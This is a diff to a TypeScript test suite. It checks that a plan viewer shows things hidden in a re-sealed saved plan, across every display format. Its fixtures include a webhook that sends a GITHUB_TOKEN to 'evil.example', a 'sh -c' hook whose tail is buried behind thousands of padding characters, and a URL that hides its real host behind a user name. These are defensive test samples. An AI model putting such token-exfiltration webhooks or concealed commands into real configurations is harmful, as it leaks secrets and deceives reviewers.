@@ -75,10 +75,10 @@ function terminalOf(answer: string | null) {
 }
 
 /** Everything that a person can see of a plan, by the name of what shows it. */
-function screens(saved: SavedPlan): [name: string, text: string][] {
+async function screens(saved: SavedPlan): Promise<[name: string, text: string][]> {
   const review = { verdict: 'ready', plan: saved, findings: saved.findings, next: null } as const;
   const asked = terminalOf('no');
-  showPlan(saved, 'saved.json', asked.terminal);
+  await showPlan(saved, join(folder, 'saved.json'), asked.terminal);
   const diff = diffPlans(PLAN, saved);
   const options = { color: false, width: 100, all: false };
   return [
@@ -110,9 +110,9 @@ describe('something hidden in a plan that was sealed again', () => {
       webhook({ url: 'https://evil.example/', secretEnv: 'GITHUB_TOKEN' }),
       '$GITHUB_TOKEN',
     ],
-  ])('%s is shown by every format, the difference and the question', (_, hidden, seen) => {
+  ])('%s is shown by every format, the difference and the question', async (_, hidden, seen) => {
     const saved = readSavedPlan(encodeSavedPlan(hiding(hidden)));
-    const blind = screens(saved).filter(([, text]) => {
+    const blind = (await screens(saved)).filter(([, text]) => {
       const words = seen.split(' ');
       const inJson = text.startsWith('{') && words.every((word) => text.includes(word.replace('$', '')));
       return !inJson && !read(text).includes(seen);
@@ -127,15 +127,15 @@ describe('something hidden in a plan that was sealed again', () => {
     ['five thousand letters', `${'a'.repeat(5000)} evil-end`],
     ['five thousand blanks', `a${' '.repeat(5000)}evil-end`],
     ['line feeds', `a${'\n'.repeat(300)}evil-end`],
-  ])('the end of a command is shown behind %s', (_, argument) => {
+  ])('the end of a command is shown behind %s', async (_, argument) => {
     // The in-memory plan: reading may refuse such a text already.
     const saved = hiding({ hooks: { halt: ['sh', '-c', argument] } });
-    for (const [name, text] of screens(saved)) {
+    for (const [name, text] of await screens(saved)) {
       expect(read(text), name).toContain('evil-end');
       expect(text, name).not.toMatch(/(?!\r\n|\n)[\p{Cc}\p{Cf}]/u);
       expect(text.split('\n').length, name).toBeLessThan(name.includes('json') ? 1000 : 300);
     }
-    const cut = screens(saved).find(([name]) => name === 'show --format text')![1];
+    const cut = (await screens(saved)).find(([name]) => name === 'show --format text')![1];
     if (argument.startsWith('aaaa'))
       expect(read(cut)).toContain('characters are left out here; --all shows them');
     const all = renderReview({ verdict: 'ready', plan: saved, findings: [], next: null }, 'text', {
@@ -144,9 +144,9 @@ describe('something hidden in a plan that was sealed again', () => {
     if (argument.startsWith('aaaa')) expect(all).toContain('a'.repeat(5000));
   });
 
-  it('a host behind a user name is shown by its own name', () => {
+  it('a host behind a user name is shown by its own name', async () => {
     const saved = hiding(gate({ url: 'https://good.example@evil.example/ready' }));
-    for (const [name, text] of screens(saved))
+    for (const [name, text] of await screens(saved))
       if (!name.includes('json'))
         expect(read(text).replaceAll(/<\/?span>/g, ''), name).toContain('(host evil.example)');
   });
